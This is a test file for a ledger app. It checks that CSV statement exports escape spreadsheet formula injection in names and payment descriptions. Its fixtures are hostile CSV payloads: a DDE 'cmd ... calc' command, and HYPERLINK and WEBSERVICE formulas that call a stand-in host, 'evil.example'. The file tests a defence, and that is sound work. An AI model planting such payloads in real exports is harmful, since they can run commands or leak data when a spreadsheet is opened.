import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { HttpClient } from '../helpers/client.js';
import { addActiveMember, startSetUpBox, type TestBox } from '../helpers/box.js';
import { signedIn } from '../members/helpers.js';

/**
 * A statement's CSV opened in a spreadsheet (issue 12, finding 8): text people wrote that starts like a formula
 * (`= + - @`, a tab or a carriage return) is written with a leading quote, so it is shown, never run; amounts, even
 * negative ones, stay numbers.
 */
/** Rows of RFC 4180 CSV, as a spreadsheet reads them: quoted fields, doubled quotes inside, CRLF or LF between rows. */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (quoted || (c !== ',' && c !== '\n' && c !== '\r')) field += c;
    else if (c === ',') endField();
    else {
      if (c === '\r' && text[i + 1] === '\n') i++;
      endField();
      rows.push(row);
      row = [];
    }
  }
  if (field !== '' || row.length > 0) {
    endField();
    rows.push(row);
  }
  return rows;
}

describe('a statement’s CSV', () => {
  let box: TestBox;
  let alice: HttpClient;
  let bobHandle: string;

  beforeAll(async () => {
    box = await startSetUpBox();
    const a = await addActiveMember(box, { displayName: 'Alice Allotment' });
    const b = await addActiveMember(box, { displayName: '=HYPERLINK("http://evil.example","Bob")' });
    bobHandle = b.handle;
    alice = await signedIn(box, a.email, a.password);
  });
  afterAll(() => box.close());

  const formulas = ['-1+1+cmd|’ /C calc’!A0', '-2+WEBSERVICE("http://evil.example")', '=1+2', '+SUM(A1)', '@SUM(A1)'];

  it('neutralises formulas in what people wrote, and keeps amounts as numbers', async () => {
    let key = 0;
    for (const description of formulas) {
      const paid = await alice.postForm(
        '/ledger/pay',
        { to: bobHandle, currency: 'DHR', amount: '0:30', description, idempotency_key: `csv-${++key}` },
        { from: '/ledger/pay' },
      );
      expect(paid.status, paid.text.slice(0, 300)).toBe(303);
    }
    const csv = await alice.get('/ledger/statement/DHR/csv');
    expect(csv.status).toBe(200);
    const [header, ...rows] = parse(csv.text) as string[][];
    const column = (name: string) => header!.indexOf(name);
    expect(rows.map((r) => r[column('description')]).sort()).toEqual(formulas.map((f) => `'${f}`).sort());
    for (const row of rows) {
      expect(row[column('with')]).toBe(`'=HYPERLINK("http://evil.example","Bob")`);
      expect(row[column('amount')]).toBe('-0:30');
      expect(row[column('amount_minor')]).toBe('-30');
      expect(row[column('balance')]).toMatch(/^-\d+:\d\d$/);
      expect(row[column('balance_minor')]).toMatch(/^-\d+$/);
    }
  });
});
